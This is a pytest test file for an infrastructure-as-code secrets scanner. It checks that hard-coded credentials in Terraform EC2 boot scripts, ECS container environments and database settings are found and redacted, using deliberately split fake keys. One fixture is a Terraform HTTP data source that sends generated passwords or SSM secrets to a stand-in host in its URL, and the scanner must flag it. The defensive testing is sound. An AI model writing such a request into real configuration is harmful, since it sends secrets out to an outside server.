"""Credentials in EC2 boot scripts (user_data) go through the secrets engine and the
NAME=value heuristics: one redacted finding per value, under the secrets rule that
recognises it (the generic rule its NAME says when no detector does)."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from tests.scanners.iac.helpers import findings, scan_family

from pipesec.core.engine import ScanRequest, run_scan

#: built from parts: no whole fake credential in test code
SECRET = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzEXAMPLEKEY"
SCRIPT = (
    "#!/bin/bash\n"
    "export AWS_REGION=eu-west-1\n"
    f"export AWS_SECRET_ACCESS_KEY={SECRET}\n"
    'export GREETING="Hello there"\n'
)


GENERIC = "secrets/generic-secret-unquoted"


def _instance(user_data: str) -> str:
    return (
        'resource "aws_instance" "web" {\n  ami           = "ami-0c55b159cbfafe1f0"\n'
        f'  instance_type = "t3.micro"\n{user_data}}}\n'
    )


def test_secret_in_a_heredoc_boot_script_is_one_redacted_finding_at_its_line() -> None:
    text = _instance(f"  user_data     = <<EOF\n{SCRIPT}EOF\n")
    hits = findings(scan_family("tf", text), GENERIC)
    assert [(f.location.start_line, f.message) for f in hits] == [
        (7, "aws_instance.web: user_data holds a credential (Hard-coded secret (env/properties))")
    ]
    assert not findings(scan_family("tf", text), "tf/hardcoded-secret")
    assert SECRET not in hits[0].snippet and "*****" in hits[0].snippet


def test_secret_in_base64_user_data_is_found_and_the_encoded_form_redacted() -> None:
    encoded = base64.b64encode(SCRIPT.encode()).decode()
    text = _instance(f'  user_data_base64 = "{encoded}"\n')
    hits = findings(scan_family("tf", text), GENERIC)
    assert [f.location.start_line for f in hits] == [4]
    assert encoded not in hits[0].snippet and SECRET not in hits[0].snippet


def test_boot_script_without_credentials_is_clean() -> None:
    text = _instance('  user_data     = <<EOF\nexport GREETING="Hello there"\nEOF\n')
    assert not _secret_findings(text)
    templated = _instance('  user_data     = templatefile("boot.sh", { token = var.token })\n')
    assert not _secret_findings(templated)


def _secret_findings(text: str) -> list[str]:
    return [f.rule_id for f in findings(scan_family("tf", text)) if "secret" in f.rule_id]


def test_a_detected_key_is_one_finding_under_the_secrets_rule_with_both_scanners(
    tmp_path: Path,
) -> None:
    """The secrets scanner reads the .tf file too: the value is one finding, and its rule is
    the secrets detector's (base64 user_data, which only the IaC scanner decodes, as well)."""
    key = "q8Vb2Lk9Xz4Rt7Yp1Wn6" + "Hs3Jd5Fg0Ca8Me2Ui4Oe"
    script = f"#!/bin/bash\nexport AWS_SECRET_ACCESS_KEY={key}\n"
    encoded = base64.b64encode(script.encode()).decode()
    (tmp_path / "main.tf").write_text(
        _instance(f"  user_data     = <<EOF\n{script}EOF\n")
        + _instance(f'  user_data_base64 = "{encoded}"\n').replace('"web"', '"b64"')
    )
    report = run_scan(ScanRequest(root=tmp_path, scanners=["iac", "secrets"]))
    got = [(f.rule_id, f.location.start_line) for f in report.findings if "secret" in f.rule_id]
    assert got == [("secrets/aws-secret-access-key", 6), ("secrets/aws-secret-access-key", 12)]
    assert all(key not in f.snippet and encoded not in f.snippet for f in report.findings)
    assert "secrets/aws-secret-access-key" in report.rules


def _task(definitions: str) -> str:
    return (
        'resource "aws_ecs_task_definition" "api" {\n  family = "api"\n'
        f"  container_definitions = {definitions}\n}}\n"
    )


def test_credential_in_ecs_container_environment_is_one_finding_under_the_secrets_rule() -> None:
    password = "Orders" + "-2024-pw!"
    heredoc = _task(
        '<<EOF\n[\n  {\n    "name": "api",\n    "environment": [\n'
        '      {"name": "STAGE", "value": "production"},\n'
        f'      {{"name": "DATABASE_PASSWORD", "value": "{password}"}}\n'
        "    ]\n  }\n]\nEOF"
    )
    encoded = _task(
        'jsonencode([{ name = "api", environment = [\n'
        f'    {{ name = "DATABASE_PASSWORD", value = "{password}" }},\n  ] }}])'
    )
    for text, line in ((heredoc, 9), (encoded, 4)):
        hits = findings(scan_family("tf", text), "secrets/generic-password-unquoted")
        assert [(f.location.start_line, f.message) for f in hits] == [
            (
                line,
                "aws_ecs_task_definition.api: environment DATABASE_PASSWORD holds a credential"
                " (Hard-coded password (env/properties))",
            )
        ]
        assert password not in hits[0].snippet
        assert not findings(scan_family("tf", text), "tf/hardcoded-secret")
        # the other ECS rules' messages do not quote the definitions (and so the password)
        assert all(password not in f.message for f in findings(scan_family("tf", text)))


def test_ecs_environment_without_credentials_or_with_secrets_references_is_clean() -> None:
    plain = _task(
        'jsonencode([{ name = "api", environment = [{ name = "STAGE", value = "prod" }] }])'
    )
    assert not _secret_findings(plain)
    referenced = _task(
        'jsonencode([{ name = "api", secrets = [{ name = "DATABASE_PASSWORD",'
        " valueFrom = aws_secretsmanager_secret.db.arn }] }])"
    )
    assert not _secret_findings(referenced)
    assert not _secret_findings(_task('"not json ["'))


def _leak(url: str, ssm_type: str = "SecureString") -> list[str]:
    text = (
        f'resource "aws_ssm_parameter" "db" {{\n  name  = "db"\n  type  = "{ssm_type}"\n'
        "  value = var.db\n}\n"
        'resource "random_password" "api" {\n  length = 24\n}\n'
        f'data "http" "probe" {{\n  url = "{url}"\n}}\n'
    )
    return [f.message for f in findings(scan_family("tf", text), "tf/secret-sent-over-http")]


def test_a_secret_in_an_http_data_source_request_is_reported() -> None:
    assert _leak("https://x.example/?k=${random_password.api.result}") == [
        "data.http.probe: url sends random_password.api.result to the server"
    ]
    assert _leak("https://x.example/?k=${aws_ssm_parameter.db.value}")
    # a plain String parameter is configuration (an endpoint), not a secret
    assert not _leak("${aws_ssm_parameter.db.value}/health", ssm_type="String")
    assert not _leak("https://x.example/?k=${aws_ssm_parameter.db.name}")


@pytest.mark.parametrize(
    ("password", "reported"),
    [
        ("example-" + "password", False),  # a marker word: a stand-in, as for the secrets scanner
        ("your_db_" + "password", False),
        ("*" * 10, False),
        ("must" + "beeightchars", True),  # weak, but deployed as written it is the password
        ("H@Sh1" + "CoR3!", True),
    ],
)
def test_placeholder_passwords_are_not_hardcoded_secrets(password: str, reported: bool) -> None:
    text = f'resource "aws_db_instance" "db" {{\n  password = "{password}"\n}}\n'
    assert bool(findings(scan_family("tf", text), "tf/hardcoded-secret")) is reported
